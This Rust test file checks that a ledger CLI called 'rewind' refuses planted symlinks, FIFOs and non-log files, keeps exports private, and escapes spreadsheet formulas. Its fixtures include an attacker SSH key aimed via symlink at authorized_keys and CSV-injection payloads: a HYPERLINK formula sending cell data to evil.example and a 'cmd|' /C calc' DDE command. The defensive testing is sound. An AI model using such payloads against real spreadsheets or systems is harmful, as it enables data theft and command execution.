//! The writers under attack: a planted link, a FIFO or a device where a log or a file beside it is
//! expected, a file that is not a log, a private log and the files written beside it, text a
//! spreadsheet would run, a stdout that cannot be written, sizes that cannot be generated.

use crate::common;

use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::{json, run};

/// A copy of the bundled sealed sample (799 records) in a fresh folder.
fn sample_copy() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ledger.jsonl");
    std::fs::copy("assets/sample.jsonl", &path).unwrap();
    (dir, path)
}

fn s(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// `rewind append LOG` of a deposit of 1 to account `a`.
fn deposit(log: &str) -> Vec<&str> {
    vec![
        "append",
        log,
        "--account",
        "a",
        "--type",
        "DEPOSIT",
        "--amount",
        "1",
    ]
}

/// The permission bits of a file (not following a link).
fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o7777
}

fn set_mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// The rewind binary as a plain command, for what assert_cmd does not set: the umask, stdout.
fn rewind_command(args: &[&str]) -> Command {
    let mut cmd = Command::new(assert_cmd::cargo::cargo_bin("rewind"));
    cmd.args(args).env_remove("RUST_BACKTRACE");
    cmd
}

/// Runs rewind with umask 0, so that only rewind's own choice of permission bits counts.
fn run_umask_0(args: &[&str]) -> (i32, String, String) {
    let mut cmd = rewind_command(args);
    // SAFETY: umask is async-signal-safe and touches no memory.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0);
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn mkfifo(path: &Path) {
    let name = std::ffi::CString::new(s(path)).unwrap();
    // SAFETY: a valid C string.
    assert_eq!(unsafe { libc::mkfifo(name.as_ptr(), 0o600) }, 0);
}

/// What a FIFO holds, read without waiting for a writer.
fn fifo_contents(path: &Path) -> Vec<u8> {
    use std::io::Read;
    use std::os::unix::fs::OpenOptionsExt;
    let mut f = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(path)
        .unwrap();
    let mut buf = vec![0u8; 1 << 16];
    match f.read(&mut buf) {
        Ok(n) => buf[..n].to_vec(),
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => Vec::new(),
        Err(e) => panic!("{e}"),
    }
}

/// One line on stderr besides notes, from rewind, and no panic.
fn one_line(err: &str) {
    let lines: Vec<&str> = err
        .lines()
        .filter(|l| !l.starts_with("rewind: note: "))
        .collect();
    assert_eq!(lines.len(), 1, "one line: {err}");
    assert!(lines[0].starts_with("rewind: "), "{err}");
    assert!(!err.contains("panicked"), "{err}");
}

// ----- never through a planted link, only regular files, only logs -----

#[test]
fn repair_never_appends_to_a_planted_torn_link() {
    let (dir, path) = sample_copy();
    let p = s(&path);
    let mut bytes = std::fs::read(&path).unwrap();
    bytes.extend_from_slice(b"ssh-ed25519 AAAA attacker-key");
    std::fs::write(&path, &bytes).unwrap();
    let victim = dir.path().join("authorized_keys");
    std::fs::write(&victim, "kept\n").unwrap();
    symlink(&victim, dir.path().join("ledger.jsonl.torn")).unwrap();

    let (code, out, err) = run(&["repair", p]);
    assert_eq!(code, 2, "{out}");
    one_line(&err);
    assert!(
        err.contains("ledger.jsonl.torn is a symbolic link"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "kept\n");
    assert_eq!(std::fs::read(&path).unwrap(), bytes, "the log is untouched");

    // A hard link is refused as well; a regular file of its own is what repair appends to.
    let torn = dir.path().join("ledger.jsonl.torn");
    std::fs::remove_file(&torn).unwrap();
    std::fs::hard_link(&victim, &torn).unwrap();
    let (code, _, err) = run(&["repair", p]);
    assert_eq!(code, 2);
    assert!(err.contains("hard links"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "kept\n");
    std::fs::remove_file(&torn).unwrap();
    let (code, _, err) = run(&["repair", p]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read(&torn).unwrap(),
        b"ssh-ed25519 AAAA attacker-key\n"
    );
}

#[test]
fn repair_refuses_a_file_that_is_not_a_log_and_says_why() {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in [
        ("notes.txt", "first line\nlast line without a newline"),
        ("config.json", "{\"theme\": \"dark\"}"),
        ("blank-end.txt", "text\n\n\n"),
        (
            "array.json",
            "[\n{\"accountId\":\"a\",\"type\":\"DEPOSIT\",\"amount\":\"1\",\"timestamp\":\"2024-03-01T10:00:00Z\"}\n]",
        ),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        let (code, out, err) = run(&["repair", s(&path)]);
        assert_eq!(code, 2, "{name}: {out}");
        one_line(&err);
        let why = if name == "array.json" {
            "not a log: it is a JSON array (repair works on JSON Lines logs)"
        } else {
            "not a log: no line of it reads as a JSON object record"
        };
        assert!(err.contains(why), "{name}: {err}");
        assert_eq!(std::fs::read_to_string(&path).unwrap(), text, "{name}");
        assert!(!dir.path().join(format!("{name}.torn")).exists());
    }
    // A log whose first record was torn is still a log: repair moves the line aside.
    let path = dir.path().join("fresh.jsonl");
    std::fs::write(&path, "{\"seq\":1,\"eventId\":\"e-1\",\"acc").unwrap();
    let (code, out, err) = run(&["repair", s(&path)]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("moved the incomplete last line"), "{out}");
    assert_eq!(std::fs::read(&path).unwrap(), b"");
}

#[test]
fn append_and_repair_write_only_to_regular_files() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("fifo.jsonl");
    mkfifo(&fifo);
    let to_fifo = dir.path().join("to-fifo.jsonl");
    symlink(&fifo, &to_fifo).unwrap();
    let to_null = dir.path().join("null.jsonl");
    symlink("/dev/null", &to_null).unwrap();
    for (path, kind) in [
        (&fifo, "a FIFO"),
        (&to_fifo, "a FIFO"),
        (&to_null, "a character device"),
    ] {
        for args in [deposit(s(path)), vec!["repair", s(path)]] {
            let (code, out, err) = run(&args);
            assert_eq!(code, 2, "{args:?}: {out}");
            one_line(&err);
            assert!(
                err.contains(&format!(
                    "not a regular file ({kind}); rewind writes only to regular files"
                )),
                "{args:?}: {err}"
            );
        }
    }
    assert_eq!(
        fifo_contents(&fifo),
        b"",
        "nothing was written into the FIFO"
    );
}

#[test]
fn append_follows_a_link_the_user_names_to_a_log_but_never_creates_one_through_a_link() {
    let (dir, path) = sample_copy();
    let link = dir.path().join("current.jsonl");
    symlink(&path, &link).unwrap();
    let (code, out, err) = run(&deposit(s(&link)));
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("head 800:"), "{out}");
    assert!(std::fs::symlink_metadata(&link).unwrap().is_symlink());
    assert_eq!(run(&["verify", s(&path)]).0, 0);

    let missing = dir.path().join("elsewhere.jsonl");
    let dangling = dir.path().join("new.jsonl");
    symlink(&missing, &dangling).unwrap();
    let (code, _, err) = run(&deposit(s(&dangling)));
    assert_eq!(code, 2);
    one_line(&err);
    assert!(err.contains("never creates a log through a link"), "{err}");
    assert!(!missing.exists());
}

#[test]
fn snapshot_never_writes_through_a_planted_link() {
    let (dir, path) = sample_copy();
    let victim = dir.path().join("victim");
    std::fs::write(&victim, "kept\n").unwrap();
    // A temporary name that can be guessed is planted for every process id the snapshot may get.
    let snapshots = dir.path().join("ledger.jsonl.snapshots");
    std::fs::create_dir(&snapshots).unwrap();
    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
        .ok()
        .and_then(|t| t.trim().parse().ok())
        .unwrap_or(1);
    for pid in last + 1..last + 3000 {
        let name = format!(".{:020}.json.{pid}.tmp", 799);
        symlink(&victim, snapshots.join(name)).unwrap();
    }
    let (code, out, err) = run(&["snapshot", s(&path)]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("saved "), "{out}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "kept\n");
    let saved = snapshots.join(format!("{:020}.json", 799));
    assert!(std::fs::symlink_metadata(&saved).unwrap().is_file());

    // The folder itself planted as a link to another folder: refused, nothing written there.
    let (dir, path) = sample_copy();
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    symlink(&elsewhere, dir.path().join("ledger.jsonl.snapshots")).unwrap();
    let (code, _, err) = run(&["snapshot", s(&path)]);
    assert_eq!(code, 2);
    one_line(&err);
    assert!(err.contains("is a symbolic link"), "{err}");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
}

#[test]
fn seal_never_writes_through_a_link_at_out() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in.jsonl");
    std::fs::copy("assets/seed-example.jsonl", &input).unwrap();
    let victim = dir.path().join("victim");
    let out = dir.path().join("out.jsonl");
    symlink(&victim, &out).unwrap();
    let (code, _, err) = run(&["seal", s(&input), "--out", s(&out)]);
    assert_eq!(code, 2);
    one_line(&err);
    assert!(err.contains("already exists"), "{err}");
    assert!(!victim.exists());
}

// ----- permission bits -----

#[test]
fn files_written_beside_a_log_are_never_more_readable_than_the_log() {
    let (dir, path) = sample_copy();
    let p = s(&path);
    set_mode(&path, 0o600);
    let (code, _, err) = run_umask_0(&["snapshot", p]);
    assert_eq!(code, 0, "{err}");
    let snapshots = dir.path().join("ledger.jsonl.snapshots");
    assert_eq!(mode(&snapshots), 0o700);
    assert_eq!(mode(&snapshots.join(format!("{:020}.json", 799))), 0o600);

    let mut bytes = std::fs::read(&path).unwrap();
    bytes.extend_from_slice(b"{\"seq\":800,\"eventId\":\"x");
    std::fs::write(&path, &bytes).unwrap();
    let (code, _, err) = run_umask_0(&["repair", p]);
    assert_eq!(code, 0, "{err}");
    let torn = dir.path().join("ledger.jsonl.torn");
    assert_eq!(mode(&torn), 0o600);
    // A torn file left readable by others is narrowed on the next repair.
    set_mode(&torn, 0o644);
    std::fs::write(&path, &bytes).unwrap();
    let (code, _, err) = run_umask_0(&["repair", p]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(mode(&torn), 0o600);

    // A sealed copy takes the input's bits.
    let input = dir.path().join("in.jsonl");
    std::fs::copy("assets/seed-example.jsonl", &input).unwrap();
    set_mode(&input, 0o640);
    let out = dir.path().join("sealed.jsonl");
    let (code, _, err) = run_umask_0(&["seal", s(&input), "--out", s(&out)]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(mode(&out), 0o640);
}

#[test]
fn explorer_exports_of_a_private_log_are_private() {
    let (dir, path) = sample_copy();
    set_mode(&path, 0o600);
    let ledger = rewind::ledger::load_file(&path, &Default::default(), None).unwrap();
    let account = ledger.find_account("cust-dana").unwrap();
    let (csv, json) = rewind::tui::export::export_statement(
        dir.path(),
        &ledger,
        account,
        rewind::ledger::Moment::End,
    )
    .unwrap();
    assert_eq!(mode(&csv) & !0o600, 0, "{:o}", mode(&csv));
    assert_eq!(mode(&json) & !0o600, 0, "{:o}", mode(&json));
}

// ----- CSV cells a spreadsheet would run -----

/// A log whose text cells are formulas; the type is mapped with --types.
const FORMULAS: &str = r#"{"seq":1,"eventId":"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")","accountId":"cust-1","type":"DEPOSIT","amount":"10.00","timestamp":"2024-03-01T10:00:00Z"}
{"seq":2,"eventId":"+1+1","accountId":"cust-1","type":"@SUM(1+1)*cmd|' /C calc'!A0","amount":"2.50","timestamp":"2024-03-01T11:00:00Z"}
{"seq":3,"eventId":"-2+3","accountId":"cust-1","type":"TRANSFER","amount":"15.00","to":"\tx=1","timestamp":"2024-03-01T12:00:00Z"}
"#;

#[test]
fn history_csv_writes_formulas_as_text_and_amounts_as_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("f.jsonl");
    std::fs::write(&log, FORMULAS).unwrap();
    let types = dir.path().join("types.toml");
    std::fs::write(&types, "debit = [\"@SUM(1+1)*cmd|' /C calc'!A0\"]\n").unwrap();
    let args = [
        "history",
        s(&log),
        "--account",
        "cust-1",
        "--types",
        s(&types),
    ];
    let (code, out, err) = run(&[&args[..], &["--csv"]].concat());
    assert_eq!(code, 0, "{err}");
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows.len(), 3, "{out}");
    assert_eq!(
        rows[0][3],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(rows[1][3], "'+1+1");
    assert_eq!(rows[1][4], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(rows[2][3], "'-2+3");
    assert_eq!(rows[2][7], "'\\tx=1", "the counterparty");
    // Amounts and balances are plain numbers, negative ones included.
    assert_eq!(
        (rows[1][5].as_str(), rows[1][6].as_str()),
        ("-2.50", "7.50")
    );
    assert_eq!(
        (rows[2][5].as_str(), rows[2][6].as_str()),
        ("-15.00", "-7.50")
    );
    for row in &rows {
        for cell in row {
            let number = |t: &str| t.chars().all(|c| c.is_ascii_digit() || c == '.');
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || cell.strip_prefix('-').is_some_and(|rest| !number(rest));
            assert!(!formula, "{cell:?} in {out}");
        }
    }
    // The JSON keeps the values as written.
    let (code, out, _) = run(&[&args[..], &["--json"]].concat());
    assert_eq!(code, 0);
    let v = json(&out);
    assert_eq!(
        v["rows"][0]["eventId"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    );
    assert_eq!(v["rows"][2]["counterparty"], "\tx=1");
}

#[test]
fn explorer_exports_write_formulas_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("f.jsonl");
    std::fs::write(
        &log,
        "{\"eventId\":\"@id\",\"accountId\":\"=1+1\",\"type\":\"DEPOSIT\",\"amount\":\"5\",\"timestamp\":\"2024-03-01T10:00:00Z\"}\n\
         {\"eventId\":\"e2\",\"accountId\":\"=1+1\",\"type\":\"TRANSFER\",\"amount\":\"7\",\"to\":\"+cmd\",\"timestamp\":\"2024-03-01T11:00:00Z\"}\n",
    )
    .unwrap();
    let ledger = rewind::ledger::load_file(&log, &Default::default(), None).unwrap();
    let (csv_path, json_path) =
        rewind::tui::export::export_events(dir.path(), &ledger, &[0, 1], "a-b").unwrap();
    let text = std::fs::read_to_string(&csv_path).unwrap();
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows[0][3], "'@id");
    assert_eq!(rows[0][4], "'=1+1");
    assert_eq!(rows[1][7], "'+cmd");
    assert_eq!(rows[1][8], "-2", "a negative balance stays a number");
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&json_path).unwrap()).unwrap();
    assert_eq!(v["rows"][0]["accountId"], "=1+1");
    assert_eq!(v["rows"][1]["to"], "+cmd");

    let account = ledger.find_account("=1+1").unwrap();
    let (csv_path, _) = rewind::tui::export::export_statement(
        dir.path(),
        &ledger,
        account,
        rewind::ledger::Moment::End,
    )
    .unwrap();
    let text = std::fs::read_to_string(&csv_path).unwrap();
    assert!(text.contains(",'@id,"), "{text}");
    assert!(text.contains(",'+cmd,overdraft\n"), "{text}");
}

// ----- a stdout that cannot be written -----

/// Runs rewind with stdout on `/dev/full` (every write fails: no space left on device).
fn run_to_full(args: &[&str]) -> (i32, String) {
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let out = rewind_command(args)
        .stdout(Stdio::from(full))
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn every_command_reports_a_stdout_it_cannot_write_in_one_line_and_exit_2() {
    let (dir, path) = sample_copy();
    let p = s(&path);
    let seed = "assets/seed-example.jsonl";
    let unsealed = dir.path().join("unsealed.jsonl");
    std::fs::copy(seed, &unsealed).unwrap();
    let sealed_out = dir.path().join("sealed.jsonl");
    let reads: Vec<Vec<&str>> = vec![
        vec!["balance", seed],
        vec!["balance", seed, "--json"],
        vec!["balance", p, "--account", "cust-dana"],
        vec!["history", p, "--account", "cust-dana"],
        vec!["history", p, "--account", "cust-dana", "--json"],
        vec!["history", p, "--account", "cust-dana", "--csv"],
        vec!["check", p],
        vec!["check", p, "--json"],
        vec!["verify", p],
        vec!["verify", p, "--json"],
        vec!["generate", "--events", "100", "--accounts", "3"],
        vec!["repair", p],
        vec!["--help"],
        vec!["balance", "--help"],
        vec!["--version"],
    ];
    for args in &reads {
        let (code, err) = run_to_full(args);
        assert_eq!(code, 2, "{args:?}: {err}");
        one_line(&err);
        assert!(err.contains("No space left on device"), "{args:?}: {err}");
    }
    // The commands that write say what they did before the output failed.
    let (code, err) = run_to_full(&deposit(p));
    assert_eq!(code, 2, "{err}");
    one_line(&err);
    assert!(
        err.contains(&format!(
            "{p}: the record was appended as seq 800 and is durable (head 800:"
        )),
        "{err}"
    );
    assert!(err.contains("No space left on device"), "{err}");
    let (code, out, _) = run(&["verify", p]);
    assert_eq!(code, 0);
    assert!(out.contains("head 800:"), "the record is in the log: {out}");
    let mut again = deposit(p);
    again.extend(["--id", "same", "--json"]);
    assert_eq!(run(&again).0, 0);
    let (code, err) = run_to_full(&again);
    assert_eq!(code, 2);
    one_line(&err);
    assert!(
        err.contains("already in the log, nothing was written"),
        "{err}"
    );

    let (code, err) = run_to_full(&["seal", s(&unsealed), "--out", s(&sealed_out)]);
    assert_eq!(code, 2, "{err}");
    one_line(&err);
    assert!(
        err.contains("the sealed copy was written (head 3:"),
        "{err}"
    );
    assert_eq!(run(&["verify", s(&sealed_out)]).0, 0);
    let (code, err) = run_to_full(&["snapshot", p, "--json"]);
    assert_eq!(code, 2, "{err}");
    one_line(&err);
    assert!(err.contains("saved "), "{err}");
}

#[test]
fn a_reader_that_goes_away_ends_the_output_quietly() {
    let (_dir, path) = sample_copy();
    let mut child = rewind_command(&["check", s(&path)])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

// ----- sizes that cannot be generated -----

#[test]
fn generate_refuses_sizes_it_cannot_honour_before_writing_anything() {
    for (events, accounts, said) in [
        (
            "10",
            "100000000000",
            "--accounts 100000000000: give 1 to 10,000,000 accounts",
        ),
        (
            "10",
            "18446744073709551615",
            "give 1 to 10,000,000 accounts",
        ),
        ("10", "0", "--accounts 0: give 1 to 10,000,000 accounts"),
        (
            "18446744073709551615",
            "5",
            "give at most 10,000,000,000 events",
        ),
    ] {
        let out = assert_cmd::Command::cargo_bin("rewind")
            .unwrap()
            .args(["generate", "--events", events, "--accounts", accounts])
            .env_remove("RUST_BACKTRACE")
            .timeout(std::time::Duration::from_secs(60))
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{events} {accounts}: {err}");
        one_line(&err);
        assert!(err.contains(said), "{err}");
        assert!(out.stdout.is_empty());
    }
}
